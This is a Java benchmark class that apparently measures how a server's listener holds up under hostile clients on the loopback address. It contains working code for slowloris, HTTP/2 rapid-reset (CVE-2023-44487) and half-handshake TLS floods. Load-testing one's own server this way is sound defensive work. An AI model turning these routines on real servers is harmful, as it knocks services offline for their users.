package dev.weir.benchmarks;

import java.io.IOException;
import java.io.OutputStream;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.concurrent.ThreadLocalRandom;
import java.util.concurrent.locks.LockSupport;

/**
 * Clients that mean ill, at a listener of this machine, for a bounded time. Run by {@code
 * benchmarks/side-by-side/hostile}.
 *
 * <p>Each attack is one thread, and goes as fast as it can: what it costs the listener is what is
 * measured.
 */
public final class HostileClients {

  private static final int SLOW_CLIENTS = 1_000;
  private static final byte[] PREFACE =
      "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".getBytes(StandardCharsets.US_ASCII);
  private static final byte[] CLIENT_HELLO_BEGUN = {0x16, 3, 1, 2, 0, 1, 0, 1};

  private final InetSocketAddress target;
  private final InetAddress source;
  private final long endNanos;
  private long count;

  private HostileClients(int port, int seconds, InetAddress source) {
    this.source = source;
    this.target = new InetSocketAddress(InetAddress.getLoopbackAddress(), port);
    this.endNanos = System.nanoTime() + seconds * 1_000_000_000L;
  }

  /**
   * Attacks until the time is over, then prints how often.
   *
   * @param arguments the attack ({@code slow}, {@code resets} or {@code handshakes}), the port of a
   *     listener on the loopback address, for how many seconds, at most 600, and the address of
   *     this machine to come from: one that may be banned is none of the loopback network
   */
  public static void main(String[] arguments) throws IOException {
    int seconds = Math.min(Integer.parseInt(arguments[2]), 600);
    HostileClients clients =
        new HostileClients(
            Integer.parseInt(arguments[1]), seconds, InetAddress.ofLiteral(arguments[3]));
    switch (arguments[0]) {
      case "slow" -> clients.slow();
      case "resets" -> clients.floods(clients::resets);
      case "handshakes" -> clients.floods(clients::handshake);
      default ->
          throw new IllegalArgumentException(
              "the attack \"" + arguments[0] + "\" is none of slow, resets and handshakes");
    }
    System.out.printf(Locale.ROOT, "%s %d%n", arguments[0], clients.count);
  }

  private boolean isOver() {
    return System.nanoTime() - endNanos >= 0;
  }

  /**
   * Many connections, each a byte of a head a second; those that are closed, or refused, come back.
   */
  private void slow() throws IOException {
    List<Socket> sockets = new ArrayList<>();
    while (sockets.size() < SLOW_CLIENTS) {
      sockets.add(begin());
    }
    while (!isOver()) {
      LockSupport.parkNanos(1_000_000_000 / SLOW_CLIENTS);
      int i = ThreadLocalRandom.current().nextInt(sockets.size());
      try {
        sockets.get(i).getOutputStream().write('x');
        count++;
      } catch (IOException e) {
        sockets.get(i).close();
        sockets.set(i, begin());
      }
    }
    for (Socket socket : sockets) {
      socket.close();
    }
  }

  private Socket begin() throws IOException {
    Socket socket = connect();
    try {
      socket
          .getOutputStream()
          .write("POST / HTTP/1.1\r\nHost: a\r\nX: ".getBytes(StandardCharsets.US_ASCII));
    } catch (IOException e) {
      // closed at once: found out with the next byte
    }
    return socket;
  }

  private Socket connect() throws IOException {
    Socket socket = new Socket();
    socket.setTcpNoDelay(true);
    socket.bind(new InetSocketAddress(source, 0));
    socket.connect(target, 5_000);
    return socket;
  }

  private interface Attack {
    void on(Socket socket) throws IOException;
  }

  /** One connection after the other: each is ended by the listener. */
  private void floods(Attack attack) {
    while (!isOver()) {
      try (Socket socket = connect()) {
        attack.on(socket);
      } catch (IOException e) {
        // ended, or refused: the next one
      }
    }
  }

  /** Streams that are reset as soon as they are opened (CVE-2023-44487). */
  private void resets(Socket socket) throws IOException {
    OutputStream out = socket.getOutputStream();
    out.write(PREFACE);
    out.write(frame(4, 0, 0, new byte[0]));
    byte[] head = post();
    for (int stream = 1; stream < 100_000 && !isOver(); ) {
      ByteBuffer batch = ByteBuffer.allocate(50 * (9 + head.length + 13));
      for (int i = 0; i < 50; i++, stream += 2) {
        batch.put(frame(1, 4, stream, head)).put(frame(3, 0, stream, new byte[] {0, 0, 0, 8}));
      }
      out.write(batch.array());
      count += 50;
    }
  }

  private static byte[] post() {
    ByteBuffer block = ByteBuffer.allocate(64);
    // POST, http and / by their place in the table of RFC 7541, then the authority as a literal
    block.put((byte) 0x83).put((byte) 0x86).put((byte) 0x84).put((byte) 0x01).put((byte) 1);
    block.put((byte) 'a').flip();
    byte[] bytes = new byte[block.remaining()];
    block.get(bytes);
    return bytes;
  }

  private static byte[] frame(int type, int flags, int stream, byte[] payload) {
    return ByteBuffer.allocate(9 + payload.length)
        .putShort((short) (payload.length >> 8))
        .put((byte) payload.length)
        .put((byte) type)
        .put((byte) flags)
        .putInt(stream)
        .put(payload)
        .array();
  }

  /** Half of a first message, then the end. */
  private void handshake(Socket socket) throws IOException {
    socket.getOutputStream().write(CLIENT_HELLO_BEGUN);
    socket.setSoLinger(true, 0); // or the ports of this machine run out
    count++;
  }
}
